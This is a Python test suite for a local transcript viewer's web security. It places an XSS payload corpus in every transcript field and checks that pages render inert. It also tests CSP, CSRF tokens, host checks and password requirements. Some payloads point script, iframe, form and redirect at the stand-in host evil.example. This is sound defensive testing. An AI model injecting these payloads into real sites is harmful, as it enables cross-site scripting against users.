"""The viewer against transcripts that fight back, and against other sites.

An XSS corpus (script tags, event handlers, ``javascript:`` links, Markdown links and
images, SVG, attribute break-outs) is put in every place transcript text reaches a page:
prompts, replies, tool names, inputs and results, thoughts, titles, the working folder,
the model's name (usage), search snippets, a switch preview, the HTML export, a live
event. Every page is then parsed: the only script is the viewer's own file, no element
has an event handler, every link goes to the viewer itself or to http/https/mailto,
nothing is loaded from elsewhere. And: a strict CSP on every response, no write without
the token and a POST from the viewer's own page, no GET that writes, the Host checked,
the password asked for.
"""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from sessiontree.cli.main import cli
from sessiontree.conversation.transcript import Transcript
from sessiontree.demo import DemoSummary
from sessiontree.errors import Refused
from sessiontree.views.export import iter_html
from sessiontree.web.security import CSP, allowed_hosts, needs_password
from tests.web.conftest import TOKEN, make_client

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[rel](/s/x/switch)",
    "![pic](javascript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><circle r=9 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<!-- a comment --> {{ 7*7 }} {% raw %}",
    "<form action='https://evil.example'><button>go</button></form>",
]
CORPUS = "\n\n".join(XSS)
SESSION = "5e551011-0000-4000-8000-00000000beef"

#: Elements the viewer's own templates make (and markdown-it's safe output).
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "link", "script", "style", "body", "nav", "main", "a",
    "form", "input", "button", "label", "select", "option", "h1", "h2", "p", "small",
    "code", "span", "strong", "em", "time", "section", "article", "header", "div",
    "details", "summary", "pre", "blockquote", "q", "ul", "ol", "li", "table", "thead",
    "tbody", "tr", "th", "td", "svg", "g", "path", "circle", "text", "rect", "line", "br",
    "mark",  # a search hit's highlighted words
    "hr", "h3", "h4", "h5", "h6",
}  # fmt: skip
SAFE_URL = re.compile(r"^(?:/(?!/)|#|\?|https?://|mailto:)", re.IGNORECASE)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.in_style = False
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))
        self.in_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self.in_style:
            self.styles.append(data)
            self.in_style = False


def assert_inert(html: str, *, standalone: bool = False) -> None:
    """No script but the viewer's, no handler, no link or load elsewhere (see module)."""
    parser = Elements()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag in ALLOWED_TAGS, (tag, attrs)
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        assert "style" not in attrs, (tag, attrs)
        if tag == "script":
            assert not standalone and attrs == {"src": "/static/viewer.js", "defer": ""}
        if tag == "link":
            assert attrs.get("href") == "/static/viewer.css"
        if tag == "meta" and "http-equiv" in attrs:
            assert standalone and attrs["http-equiv"] == "Content-Security-Policy"
        if tag == "svg":
            assert attrs.get("class") in ("tree", "chart"), attrs
        if tag == "form":
            assert SAFE_URL.match(attrs.get("action", "")) and attrs["action"].startswith("/")
        for name in ("href", "src", "action", "xlink:href", "formaction"):
            if name in attrs:
                assert SAFE_URL.match(attrs[name].strip()), (tag, name, attrs[name])
                if tag != "a":  # only a link the reader follows may leave the viewer
                    assert not re.match(r"https?:|//", attrs[name]), (tag, attrs)
    assert len([t for t, _ in parser.found if t == "style"]) == (1 if standalone else 0)


def _write_hostile(root: Path) -> Path:
    """A session whose every text is the corpus, its title and cwd too, with a rewound
    branch (so a switch preview shows it) and a model of that name (usage)."""
    folder = root / "projects" / "-hostile"
    folder.mkdir(parents=True)
    records: list[dict[str, object]] = []

    def add(kind: str, content: object, parent: str | None = "last", **extra: object) -> str:
        uuid = f"00000000-0000-4000-8000-{len(records):012d}"
        up = records[-1]["uuid"] if parent == "last" and records else parent
        records.append(
            {
                "type": kind, "uuid": uuid, "parentUuid": up, "isSidechain": False,
                "sessionId": SESSION, "cwd": f"/tmp/{CORPUS}", "version": "2.1.328",
                "timestamp": f"2026-12-01T10:00:{len(records):02d}.000Z",
                "message": {"role": kind, "content": content, **extra},
            }
        )  # fmt: skip
        return uuid

    usage = {"input_tokens": 10, "output_tokens": 5}
    first = add("user", CORPUS)
    add("assistant", [{"type": "thinking", "thinking": CORPUS, "signature": "s"}],
        model=CORPUS, id="msg_1", usage=usage)  # fmt: skip
    add("assistant", [{"type": "text", "text": CORPUS}], model=CORPUS, id="msg_1", usage=usage)
    call = {"type": "tool_use", "id": "toolu_1", "name": CORPUS, "input": {"command": CORPUS}}
    add("assistant", [call], model=CORPUS, id="msg_1", usage=usage)
    add("user", [{"type": "tool_result", "tool_use_id": "toolu_1", "content": CORPUS}])
    add("user", [{"type": "tool_result", "tool_use_id": "toolu_1", "is_error": True,
                  "content": [{"type": "text", "text": CORPUS}]}])  # fmt: skip
    # a rewound branch: the same first prompt's child, re-sent
    add("user", f"again: {CORPUS}", parent=first)
    add("assistant", [{"type": "text", "text": CORPUS}], model=CORPUS, id="msg_2", usage=usage)
    lines = [json.dumps(r) for r in records]
    lines.append(json.dumps({"type": "custom-title", "customTitle": CORPUS, "sessionId": SESSION}))
    path = folder / f"{SESSION}.jsonl"
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    _write_hostile(root)
    return root


def test_every_page_a_hostile_transcript_reaches_is_inert(hostile: Path) -> None:
    transcript = Transcript.open(next(hostile.glob("projects/*/*.jsonl")))
    rewound = transcript.off_path_leaves()[0] if transcript.off_path_leaves() else None
    other = next(u for u in transcript.tree.nodes if u not in transcript.active_path)
    urls = [
        "/", "/?filter=alert", "/search?q=alert", "/search?q=<script>alert(1)</script>",
        f"/s/{SESSION}", f"/s/{SESSION}?leaf={rewound or other}", f"/s/{SESSION}/page?start=0",
        f"/s/{SESSION}/checkpoints", f"/s/{SESSION}/switch?to={rewound or other}",
        f"/s/{SESSION}/diff?file=<script>alert(1)</script>&a=x&b=current",
        f"/s/{SESSION}/switch?to=<script>alert(1)</script>",
        "/usage?by=model", "/usage?by=project", "/usage?by=session", "/usage?by=day",
        "/usage?by=<script>",
    ]  # fmt: skip
    with make_client(hostile) as client:
        for url in urls:
            page = client.get(url)
            assert page.status_code in (200, 404, 409), url
            assert "Traceback" not in page.text
            assert_inert(page.text)
        # the corpus did reach the pages, as text
        page = client.get(f"/s/{SESSION}").text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        branch = client.get(f"/s/{SESSION}?leaf={rewound or other}").text
        # (the first prompt on both)
        assert page.count('class="item') + branch.count('class="item') == 8 + 1
        search = client.get("/search?q=alert").text
        assert search.count('class="hit"') >= 5
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in search
        assert "&lt;script&gt;" in client.get("/usage?by=model").text


def test_markdown_links_keep_only_safe_schemes_and_images_never_load(hostile: Path) -> None:
    with make_client(hostile) as client:
        page = client.get(f"/s/{SESSION}").text
    hrefs = re.findall(r'<a [^>]*href="([^"]*)"', page)
    outside = [h for h in hrefs if not h.startswith(("/", "#"))]
    assert outside and all(h == "https://evil.example/pixel.png" for h in outside), outside
    assert "[image: pixel]" in page
    assert "<img" not in page
    assert "[click](javascript:alert(1))" in page, "an unsafe link stays text"


def test_the_export_of_a_hostile_transcript_is_inert(hostile: Path) -> None:
    transcript = Transcript.open(next(hostile.glob("projects/*/*.jsonl")))
    document = "".join(iter_html(transcript))
    assert_inert(document, standalone=True)
    assert "default-src 'none'" in document
    title = re.search(r"<title>(.*?)</title>", document, re.S).group(1)  # type: ignore[union-attr]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in title, "the session's title, escaped"


def test_a_live_event_of_hostile_records_is_inert(hostile: Path) -> None:
    transcript = Transcript.open(next(hostile.glob("projects/*/*.jsonl")))
    with make_client(hostile, follow_seconds=0.2) as client:
        events = client.get(
            f"/s/{SESSION}/events", headers={"last-event-id": transcript.active_path[0]}
        )
    sent = [json.loads(line[6:]) for line in events.text.splitlines() if line.startswith("data: ")]
    assert sent and all(assert_inert(s["html"]) is None for s in sent)
    assert "&lt;script&gt;" in sent[0]["html"]


def test_every_response_has_the_strict_csp(demo: DemoSummary) -> None:
    assert "script-src 'self'" in CSP and "unsafe-inline" not in CSP and "default-src 'none'" in CSP
    sid = demo.session("rewinds").session_id
    with make_client(demo.root) as client:
        for url in ("/", f"/s/{sid}", "/usage", "/static/viewer.css", "/s/nope", "/search?q=x",
                    f"/s/{sid}/checkpoints", f"/s/{sid}/export.html"):  # fmt: skip
            got = client.get(url)
            assert got.headers["content-security-policy"] == CSP, url
            assert got.headers["x-content-type-options"] == "nosniff"
            assert got.headers["x-frame-options"] == "DENY"
        refused = client.post(f"/s/{sid}/switch", data={"to": "x"})
        assert refused.headers["content-security-policy"] == CSP


def _leaf_and_bytes(demo: DemoSummary) -> tuple[str, str, bytes]:
    rewinds = demo.session("rewinds")
    transcript = Transcript.open(rewinds.path)
    return rewinds.session_id, transcript.off_path_leaves()[0], rewinds.path.read_bytes()


def test_a_write_without_the_token_or_from_another_site_is_refused(demo: DemoSummary) -> None:
    sid, leaf, before = _leaf_and_bytes(demo)
    path = demo.session("rewinds").path
    url = f"/s/{sid}/switch"
    with make_client(demo.root) as client:
        assert client.post(url, data={"to": leaf}).status_code == 403
        assert client.post(url, data={"to": leaf, "token": "wrong"}).status_code == 403
        assert client.post(url, data={"to": leaf, "token": TOKEN[:-1]}).status_code == 403
        evil = {"origin": "https://evil.example"}
        assert client.post(url, data={"to": leaf, "token": TOKEN}, headers=evil).status_code == 403
        cross = {"sec-fetch-site": "cross-site"}
        assert client.post(url, data={"to": leaf, "token": TOKEN}, headers=cross).status_code == 403
        as_json = client.post(url, json={"to": leaf, "token": TOKEN})
        assert as_json.status_code == 403, "only a form post"
        assert path.read_bytes() == before
        for route in ("restore", "undo"):
            assert client.post(f"/s/{sid}/{route}", data={"prompt": "1"}).status_code == 403
        ok = client.post(
            url, data={"to": leaf, "token": TOKEN}, headers={"origin": "http://testserver"}
        )
        assert ok.status_code == 303 and path.read_bytes() != before


def test_no_get_writes(demo: DemoSummary) -> None:
    """Every GET of every page a write has (with what the write would take), twice: no
    byte of the store or the project changes."""
    sid, leaf, _ = _leaf_and_bytes(demo)
    rewinds = demo.session("rewinds")
    watched = [*demo.root.rglob("*"), *Path(rewinds.cwd).rglob("*")]
    before = {p: p.read_bytes() for p in watched if p.is_file()}
    transcript = Transcript.open(rewinds.path)
    prompt = transcript.numbered_prompts()[0]
    with make_client(demo.root) as client:
        for _ in range(2):
            for url in (
                f"/s/{sid}/switch?to={leaf}&token={TOKEN}",
                f"/s/{sid}/restore?prompt={prompt}&token={TOKEN}",
                f"/s/{sid}/undo?token={TOKEN}",
                f"/s/{sid}?leaf={leaf}",
                f"/s/{sid}/export.html",
            ):
                assert client.get(url).status_code in (200, 409), url
    after = {p: p.read_bytes() for p in watched if p.is_file()}
    assert after == before


def test_only_the_bound_host_is_answered(demo: DemoSummary) -> None:
    hosts = allowed_hosts("127.0.0.1", 8765)
    assert hosts is not None and "127.0.0.1:8765" in hosts and "localhost:8765" in hosts
    assert allowed_hosts("0.0.0.0", 8765) is None, "any name: the password guards it"
    with make_client(demo.root, allowed_hosts=hosts) as client:
        assert client.get("/", headers={"host": "127.0.0.1:8765"}).status_code == 200
        rebound = client.get("/", headers={"host": "evil.example:8765"})
        assert rebound.status_code == 421 and "session" not in rebound.text.lower()


def test_a_password_is_asked_for_every_request(demo: DemoSummary) -> None:
    def basic(user: str, password: str) -> dict[str, str]:
        raw = base64.b64encode(f"{user}:{password}".encode()).decode()
        return {"authorization": f"Basic {raw}"}

    with make_client(demo.root, password="s3cret") as client:
        for url in ("/", "/static/viewer.js", f"/s/{demo.session('rewinds').session_id}"):
            refused = client.get(url)
            assert refused.status_code == 401 and "www-authenticate" in refused.headers
        assert client.get("/", headers=basic("me", "wrong")).status_code == 401
        assert client.get("/", headers={"authorization": "Basic !!"}).status_code == 401
        assert client.get("/", headers=basic("anyone", "s3cret")).status_code == 200


def test_other_addresses_need_a_password() -> None:
    needs_password("127.0.0.1", None)
    needs_password("::1", None)
    needs_password("localhost", None)
    with pytest.raises(Refused, match="password"):
        needs_password("0.0.0.0", None)
    with pytest.raises(Refused):
        needs_password("192.168.1.9", "")
    needs_password("0.0.0.0", "s3cret")


def test_serve_refuses_a_public_address_without_a_password(demo: DemoSummary) -> None:
    result = CliRunner().invoke(
        cli, ["--root", str(demo.root), "serve", "--host", "0.0.0.0", "--no-open"], env={}
    )
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == [
        "sessiontree: --host 0.0.0.0 lets other machines in: give a password "
        "($SESSIONTREE_SERVE_PASSWORD or --password) to serve there"
    ]


@pytest.mark.parametrize(
    "bad",
    [
        "<script>alert(1)</script>",
        '<img src="x">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<p onclick="x">',
        "<svg onload=x>",
        '<a href="data:text/html,x">',
        '<form action="https://evil.example">',
        '<div style="background:url(https://evil.example)">',
    ],
)
def test_the_inertness_check_can_fail(bad: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(f"<html><body>{bad}</body></html>")


def _add_hostile_checkpoints(root: Path) -> tuple[str, str, list[str]]:
    """Checkpoints of the hostile session: files named with the corpus, backed up with
    it, changed between the first prompt and the re-sent one. Their prompts and names."""
    path = next(root.glob("projects/*/*.jsonl"))
    first, again = "00000000-0000-4000-8000-000000000000", "00000000-0000-4000-8000-000000000006"
    names = [f"{XSS[0]}.py", XSS[2], f"src/{XSS[16]}"]
    backups = root / "file-history" / SESSION
    backups.mkdir(parents=True)
    lines = []
    for version, prompt in ((1, first), (2, again)):
        tracked = {}
        for i, name in enumerate(names):
            backup = f"{i:016x}@v{version}"
            (backups / backup).write_text(CORPUS + f"\n{XSS[version]}\n" * version)
            tracked[name] = {
                "backupFileName": backup, "version": version,
                "backupTime": "2026-12-01T10:00:00.000Z", "realParentDir": f"/tmp/{CORPUS}",
            }  # fmt: skip
        snapshot = {"messageId": prompt, "trackedFileBackups": tracked,
                    "timestamp": "2026-12-01T10:00:00.000Z"}  # fmt: skip
        record = {"type": "file-history-snapshot", "messageId": prompt, "snapshot": snapshot}
        lines.append(json.dumps({**record, "isSnapshotUpdate": False}))
    with path.open("a") as out:
        out.write("\n".join(lines) + "\n")
    return first, again, names


def test_checkpoints_diffs_the_tree_and_indexed_search_of_a_hostile_session_are_inert(
    hostile: Path, tmp_path: Path
) -> None:
    """The places the first corpus test does not reach: file names and contents in the
    checkpoint timeline, its diffs and the restore preview; the tree drawn on its own;
    the search page through the index (its snippets are marked up, not escaped whole)."""
    first, again, names = _add_hostile_checkpoints(hostile)
    with make_client(hostile, search_index=tmp_path / "cache" / "search.sqlite") as client:
        timeline = client.get(f"/s/{SESSION}/checkpoints")
        assert timeline.status_code == 200
        assert_inert(timeline.text)
        assert timeline.text.count("&lt;script&gt;alert(1)&lt;/script&gt;.py") >= 2
        for name in names:
            for a, b in ((first, again), (first, "current"), (again, first)):
                diff = client.get(f"/s/{SESSION}/diff", params={"file": name, "a": a, "b": b})
                assert diff.status_code in (200, 404), (name, a, b, diff.text)
                assert_inert(diff.text)
        shown = client.get(f"/s/{SESSION}/diff", params={"file": names[0], "a": first, "b": again})
        assert shown.status_code == 200 and "&lt;img src=x onerror=" in shown.text
        for prompt in (first, again):
            preview = client.get(f"/s/{SESSION}/restore", params={"prompt": prompt})
            assert preview.status_code in (200, 409), preview.text
            assert_inert(preview.text)
        tree = client.get(f"/s/{SESSION}/tree")
        assert tree.status_code == 200 and 'class="node' in tree.text
        assert_inert(tree.text)
        search = client.get("/search", params={"q": "alert"})
        assert search.text.count('class="hit"') >= 5
        assert "<mark>" in search.text.lower()
        assert_inert(search.text)
        filtered = client.get("/search", params={"q": "alert", "role": "tool", "tool": CORPUS})
        assert_inert(filtered.text)
        assert client.get(f"/s/{SESSION}/undo").status_code in (200, 404, 409)
        assert_inert(client.get(f"/s/{SESSION}/undo").text)
